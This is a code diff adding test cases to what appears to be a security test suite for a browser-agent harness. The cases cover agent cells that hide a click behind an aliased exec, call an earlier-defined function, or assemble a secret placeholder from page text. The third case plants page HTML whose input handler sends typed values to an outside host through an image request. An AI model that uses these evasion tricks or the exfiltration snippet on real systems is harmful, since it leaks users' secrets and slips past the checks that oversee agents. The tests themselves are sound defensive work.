@@ -469,6 +469,27 @@ def _press_in_cell(setting: Setting) -> None:
     _cell(setting, "def go(p):\n    p.press('Enter', target)\ngo(page)")
 
 
+def _hidden_in_cell(setting: Setting) -> None:
+    _cell(setting, 'run = exec\nrun(f"page.click({target!r})")')
+
+
+def _earlier_cell(setting: Setting) -> None:
+    html, target = setting.control(click=setting.send)
+    defined = ToolCall(
+        "run_cell", {"code": f"def look():\n    page.click({target!r})\nways = {{'look': look}}"}
+    )
+    setting.run(setting.show(html), defined, ToolCall("run_cell", {"code": "ways['look']()"}), mode="cells")
+
+
+def _spelled_secret(setting: Setting) -> None:
+    """Page text that a cell puts together to a secret's placeholder; the text itself is sent nowhere."""
+    sb.secret("attackedbank", origins={setting.site.url}, fields=["Note"])
+    leak = f"this.value.startsWith('$') || (new Image().src = '{setting.far}{setting.path}?v=' + this.value)"
+    html = f'<h1>ret:attackedbank}}</h1><label>Note <input oninput="{leak}"></label>'
+    code = "page.fill(\"textbox 'Note'\", '${sec' + page.text('heading'))"
+    setting.run(setting.show(html), ToolCall("run_cell", {"code": code}), mode="cells")
+
+
 WAYS: dict[str, Callable[[Setting], None]] = {
     "click": _click,
     "click by pixels": _pixels,
@@ -497,6 +518,9 @@ WAYS: dict[str, Callable[[Setting], None]] = {
     "cell that insists": _insist_in_cell,
     "cell with what it found": _found_in_cell,
     "cell with a function": _press_in_cell,
+    "cell that hides its call": _hidden_in_cell,
+    "cell that calls an earlier one": _earlier_cell,
+    "cell that spells a secret": _spelled_secret,
 }
 BY_RULE = {
     "wait_for with a script": "agents don't have it",
